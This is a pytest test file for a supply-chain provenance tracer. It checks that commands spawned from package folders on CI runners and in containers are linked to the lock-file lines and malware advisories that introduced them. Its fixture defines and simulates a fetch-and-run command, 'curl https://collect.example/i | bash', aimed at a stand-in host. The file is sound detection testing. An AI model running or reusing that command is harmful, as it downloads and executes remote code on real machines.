"""What ran in or out of a package's folder: on a runner, in a container."""

import json
from urllib.parse import quote

import pytest
from builds import AT, OWNERS, SECOND, Change, Raw, Runner, broken, builds, told

from lemnis.app.origins import installed, workflow_run

IMAGE, CONTAINER = "sha256:" + "c1" * 32, "c0ffee01" * 8
RUNS = "curl https://collect.example/i | bash"
PACKAGES = {
    "node_modules/jest": {"version": "29.7.0"},
    "node_modules/tiny-labels": {"version": "1.4.2"},
    "node_modules/tiny-labels/node_modules/deep": {"version": "0.1.0"},
}


def lock(packages=None):
    return json.dumps(
        {"lockfileVersion": 3, "packages": {"": {"name": "shop"}, **(packages or PACKAGES)}}, indent=1
    )


LOCKED = Change(
    "begin", {**OWNERS, "package-lock.json": lock(), "requirements.txt": "flask==3.0\nevil.kit==1.0\n"}
)


@pytest.fixture
def world(tmp_path):
    return builds(tmp_path, LOCKED)


def on_runner(world, folder, *words):
    """A program runs in a folder of a job, and it runs something."""
    runner = Runner("build-7")
    job = runner.begin(AT - 20 * SECOND, "shop", run=900, commit=world.commits["shop"]["begin"])
    npm = job.ran(AT - 5 * SECOND, job.step(AT - 6 * SECOND), "/usr/bin/node", "npm", "ci")
    place = f"{job.folder}/{folder}".rstrip("/")
    node = job.ran(
        AT - SECOND, npm, "/usr/bin/node", *(word.replace("WORK", job.folder) for word in words), folder=place
    )
    job.ran(AT, node, "/usr/bin/bash", "bash", "-c", RUNS, folder=place)
    job.ran(AT + 10, runner.pid, "/usr/bin/curl", "curl", "https://collect.example/i", folder=place)
    world.logs(runner.logs(world.folder))
    [found] = workflow_run.chains(world.alerted(RUNS))
    return found


def test_a_script_of_an_installation_runs_in_the_packages_folder(world):
    found = on_runner(world, "node_modules/tiny-labels", "node", "setup.js")
    assert told(found)[2:4] == [
        ("has_line", "shop:package-lock.json:10", "observed"),
        ("introduced_by", world.commits["shop"]["begin"], "recorded"),
    ]
    assert found.facts.findings == ()
    assert len(found.events) == 3  # all that ran in the folder, not npm


def test_a_packages_package_counts_before_it(world):
    found = on_runner(world, "node_modules/tiny-labels/node_modules/deep", "node", "setup.js")
    assert ("has_line", "shop:package-lock.json:13", "observed") in told(found)


def test_pythons_installer_names_the_package_in_its_folder(world):
    found = on_runner(world, f"pip-install-a1/Evil_Kit_{'0f' * 16}", "python3", "-c", "exec(…)")
    assert ("has_line", "shop:requirements.txt:2", "observed") in told(found)


def test_a_program_that_lies_there_may_run_ones_own_code(world):
    found = on_runner(world, "", "node", "WORK/node_modules/jest/bin/jest.js")
    assert ("has_line", "shop:package-lock.json:7", "name_match") in told(found)
    assert len(found.events) == 2


def test_an_advisory_of_malice_makes_it_more_than_a_likeness(world):
    world.advise("MAL-2025-1", "jest", "29.7.0")
    found = on_runner(world, "", "node", "WORK/node_modules/jest/bin/jest.js")
    assert ("has_line", "shop:package-lock.json:7", "label") in told(found)
    [finding] = found.facts.findings
    assert finding.vulnerability.ids == ("MAL-2025-1",)


def test_a_package_that_no_lock_file_names_is_no_line(world):
    relation, why = broken(on_runner(world, "node_modules/unheard-of", "node", "setup.js"))
    assert (relation, why) == ("has_line", "no lock file names npm/unheard-of")


def test_several_versions_are_told(tmp_path):
    more = {**PACKAGES, "node_modules/jest/node_modules/tiny-labels": {"version": "1.3.0"}}
    world = builds(tmp_path, Change("begin", {**OWNERS, "package-lock.json": lock(more)}))
    found = on_runner(world, "node_modules/tiny-labels", "node", "setup.js")
    assert ("has_line", "shop:package-lock.json:10", "label") in told(found)
    assert found.hops[2].edge.evidence["others"] == ["package-lock.json:16 1.3.0"]


def in_container(world, *, asks=""):
    """A service imports a package that runs something."""
    raw = Raw(world.folder)
    raw.container(AT - 5 * SECOND, CONTAINER, 500, IMAGE)
    raw.starts(AT - 4 * SECOND, 500, 499, "/usr/bin/node", "node", "/srv/node_modules/tiny-labels/index.js")
    if asks:
        raw.asks(AT - 500, "198.51.100.7", f"/?text={asks}")
    raw.starts(AT, 510, 500, "/usr/bin/bash", "bash", "-c", RUNS)
    world.logs(raw.logs)
    return installed.chains(world.alerted(RUNS))


def test_in_a_container_a_malicious_package_is_traced_to_its_line(world):
    world.attested(IMAGE, "begin")
    world.advise("MAL-2025-2", "tiny-labels", "1.4.2")
    [found] = in_container(world)
    assert ("has_line", "shop:package-lock.json:10", "label") in told(found)
    assert "contains" in [edge.relation for edge in found.beside]


def test_what_a_stranger_sent_is_no_packages_doing(world):
    world.attested(IMAGE, "begin")
    assert in_container(world, asks=quote(RUNS, safe="")) == []


def test_without_an_attestation_nobody_knows_the_lock_file(world):
    assert in_container(world) == []


def test_ordinary_programs_have_no_chain(world):
    world.attested(IMAGE, "begin")
    raw = Raw(world.folder)
    raw.container(AT - 5 * SECOND, CONTAINER, 500, IMAGE)
    raw.starts(AT, 510, 500, "/usr/bin/bash", "bash", "-c", RUNS)
    world.logs(raw.logs)
    assert installed.chains(world.alerted(RUNS)) == []
